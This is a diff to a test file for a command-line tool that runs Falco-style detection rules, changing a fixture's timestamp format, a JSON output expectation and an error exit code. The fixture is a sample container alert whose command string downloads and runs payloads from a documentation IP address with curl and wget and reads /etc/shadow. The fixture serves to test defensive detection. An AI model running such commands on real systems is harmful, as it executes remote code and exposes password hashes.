@@ -20,7 +20,7 @@ beforeAll(() => {
 afterAll(() => dir.cleanup());
 
 const LINE =
-  '13:20:15.016500000: Warning Shell spawned in a container by a non-shell parent (user=nginx user_uid=101 process=sh parent=nginx gparent=nginx command=sh -c curl -s -o /tmp/x http://203.0.113.7/x; wget -q -O /tmp/y http://203.0.113.7/y; cat /etc/shadow; /tmp/x & pid=4001 container_id=3f9a1c0e2b7d container_name=nginx image=docker.io/library/nginx:latest k8s_ns=default k8s_pod=nginx-test)';
+  '2024-11-28T13:20:15.016500000Z: Warning Shell spawned in a container by a non-shell parent (user=nginx user_uid=101 process=sh parent=nginx gparent=nginx command=sh -c curl -s -o /tmp/x http://203.0.113.7/x; wget -q -O /tmp/y http://203.0.113.7/y; cat /etc/shadow; /tmp/x & pid=4001 container_id=3f9a1c0e2b7d container_name=nginx image=docker.io/library/nginx:latest k8s_ns=default k8s_pod=nginx-test)';
 
 describe('pedigree rules', () => {
   it('run: the seed rule fires once on the sample, in Falco text format, and is stored', () => {
@@ -47,7 +47,8 @@ describe('pedigree rules', () => {
     expect(Object.keys(obj)).toEqual(['hostname', 'output', 'output_fields', 'priority', 'rule', 'source', 'tags', 'time']);
     expect(obj).toMatchObject({
       hostname: 'node-1',
-      output: LINE,
+      // JSON keeps Falco's own output text: the time of day, in the process's zone (TZ=UTC here)
+      output: LINE.replace('2024-11-28T', '').replace('Z:', ':'),
       priority: 'Warning',
       rule: 'Spawn Shell in Container',
       source: 'syscall',
@@ -62,7 +63,7 @@ describe('pedigree rules', () => {
     expect(runCli(['rules', 'run', SEED, '--db', db, '--since', '2024-11-28T13:20:16Z', '--no-save', '-q']).stdout).toBe('');
     expect(runCli(['rules', 'run', SEED, '--db', db, '--until', '1732800015016500001', '--no-save', '-q'], { env }).stdout).toBe(`${LINE}\n`);
     const bad = runCli(['rules', 'run', SEED, '--db', db, '--min-priority', 'loud']);
-    expect(bad.code).toBe(1);
+    expect(bad.code).toBe(2);
     expect(bad.stderr).toMatch(/expected one of emergency/);
   });
 
